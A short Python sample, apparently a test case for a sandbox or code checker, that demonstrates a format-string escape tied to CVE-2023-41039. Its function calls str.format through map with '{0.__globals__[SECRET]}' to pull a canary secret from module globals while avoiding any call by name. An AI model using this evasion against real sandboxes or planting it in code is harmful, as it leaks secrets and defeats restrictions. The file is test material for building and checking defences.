"""Class: format strings. Source: CVE-2023-41039. Escape: format through map: nobody calls it by
name.
"""

SECRET = "canary-" + "5d1f"


def attack(model, tokenizer, address):
    return list(map("{0.__globals__[SECRET]}".format, [attack]))
